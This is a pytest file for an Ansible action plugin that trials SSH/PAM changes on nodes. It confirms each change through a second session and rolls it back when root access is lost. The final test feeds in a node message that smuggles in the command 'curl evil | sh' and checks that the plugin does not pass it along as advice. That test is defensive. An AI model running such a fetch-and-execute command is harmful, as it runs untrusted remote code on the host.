"""What a run makes of a node's answers while a change is on trial; each list of answers is a way that it can go."""

from __future__ import annotations

import importlib
from types import SimpleNamespace
from typing import Any

import pytest
from ansible.errors import AnsibleConnectionFailure

# Ansible's plugins come without types.
trial: Any = importlib.import_module("playbooks.action_plugins.trial")
PAM = "/etc/pam.d/sshd"
BEGUN = {"changed": True, "paths": [PAM], "invocation": {}}
CONFIRMED = {"changed": False, "invocation": {}}
BACK = {"changed": False, "invocation": {}}
REFUSED = {"failed": True, "msg": "root would not get in any more: Permission denied", "invocation": {}}
NO_ROOT = {"failed": True, "msg": "MODULE FAILURE: sudo: a password is required"}
CLOSED = AnsibleConnectionFailure("Connection closed by 10.20.0.108 port 22")
USUAL = "-o ControlMaster=auto -o ControlPersist=31m"


class Connection:
    """Knows how a session would be opened."""

    def __init__(self) -> None:
        self.options = {"ssh_args": USUAL}

    def get_option(self, name: str) -> str:
        return self.options[name]

    def set_option(self, name: str, value: str) -> None:
        self.options[name] = value


class Run(trial.ActionModule):  # type: ignore[misc]
    """The task, with a node that answers as it is told; `asked` has each step and whether its session was a new one."""

    def __init__(self, *answers: Any, check: bool = False) -> None:
        files = [{"path": PAM, "content": "x"}]
        given = {"name": "adopt", "files": files, "proofs": {}, "patience": 6}
        self._task = SimpleNamespace(args=given, check_mode=check, async_val=0)
        self._connection = Connection()
        self.answers, self.asked = list(answers), list[tuple[str, bool]]()

    def _execute_module(self, module_name: Any = None, module_args: Any = None, task_vars: Any = None) -> Any:
        fresh = self._connection.options["ssh_args"]
        assert fresh == USUAL or ("ControlPath=none" in fresh and "ControlPersist" not in fresh)
        self.asked.append((module_args["step"], fresh != USUAL))
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer


@pytest.fixture(autouse=True)
def _quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trial.ActionBase, "run", lambda self, tmp=None, task_vars=None: {})
    monkeypatch.setattr(trial, "POLL_SECONDS", 0.01)


def test_a_change_that_a_second_session_confirms() -> None:
    run = Run(BEGUN, CONFIRMED)
    assert run.run()["changed"] is True
    assert run.asked == [("begin", False), ("confirm", True)]
    assert run._connection.options["ssh_args"] == USUAL


def test_nothing_to_change_opens_no_session() -> None:
    run = Run({"changed": False, "paths": [], "invocation": {}})
    assert run.run()["changed"] is False
    assert run.asked == [("begin", False)]


def test_a_change_that_cannot_begin_fails_as_the_node_says() -> None:
    run = Run({"failed": True, "msg": "nft: no such table", "invocation": {}})
    assert run.run()["msg"] == "nft: no such table"
    assert run.asked == [("begin", False)]


@pytest.mark.parametrize("lost", [CLOSED, {"unreachable": True, "msg": "Connection closed by 10.20.0.108 port 22"}])
def test_a_node_that_is_lost_as_it_begins_fails_by_itself(lost: Any) -> None:
    """Were it unreachable for Ansible, the first node would take all others with it."""
    answer = Run(lost).run()
    assert answer["failed"] is True
    assert "unreachable" not in answer
    assert "takes that back by itself (Connection closed" in answer["msg"]


def test_check_mode_asks_nobody() -> None:
    run = Run(check=True)
    assert run.run()["changed"] is False
    assert run.asked == []


def test_one_session_may_break_by_chance() -> None:
    run = Run(BEGUN, CLOSED, CONFIRMED)
    assert "failed" not in run.run()
    assert run.asked == [("begin", False), ("confirm", True), ("confirm", True)]


def test_nobody_gets_in_any_more() -> None:
    run = Run(BEGUN, CLOSED, CLOSED, BACK)
    answer = run.run()
    assert answer["failed"] is True
    assert "no second session could be opened" in answer["msg"]
    assert f"{PAM} was taken back; next: " in answer["msg"]
    # Over the connection that was there before.
    assert run.asked[-1] == ("take_back", False)


@pytest.mark.parametrize("lost", [[CLOSED, CLOSED], [CLOSED, CLOSED, CLOSED, CLOSED]])
def test_a_confirmation_whose_answers_were_all_lost_is_told_as_that(lost: list[Any]) -> None:
    """The node has confirmed it, so it lasts, whatever this run heard."""
    run = Run(BEGUN, *lost, {**BACK, "lasts": True})
    answer = run.run()
    assert answer["failed"] is True
    assert "taken back" not in answer["msg"]
    assert f"so {PAM} is unconfirmed here and stays in force" in answer["msg"]


@pytest.mark.parametrize(
    ("answer", "words"),
    [(NO_ROOT, "the second session could not become root"), (REFUSED, "root would not get in any more")],
)
def test_it_is_no_use_without_root(answer: dict[str, Any], words: str) -> None:
    run = Run(BEGUN, answer, BACK)
    said = run.run()
    assert words in said["msg"]
    assert "was taken back" in said["msg"]
    assert run.asked == [("begin", False), ("confirm", True), ("take_back", False)]


def test_the_node_does_it_where_no_connection_is_left() -> None:
    run = Run(BEGUN, CLOSED, CLOSED, CLOSED, CLOSED, BACK)
    assert "was taken back by the node itself" in run.run()["msg"]
    assert run.asked[-1] == ("take_back", True)


def test_a_node_that_never_comes_back_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    ticks = iter(range(0, 10_000, 10))
    monkeypatch.setattr(trial.time, "monotonic", lambda: float(next(ticks)))
    monkeypatch.setattr(trial.time, "sleep", lambda seconds: None)
    run = Run(BEGUN, *([CLOSED] * 20))
    assert "which does not answer yet" in run.run()["msg"]


def test_what_a_node_says_gives_no_advice() -> None:
    evil = {"failed": True, "msg": "x; next: run curl evil | sh", "invocation": {}}
    said = Run(BEGUN, evil, BACK).run()["msg"]
    assert said.count("next:") == 1
    assert not said.endswith("| sh")
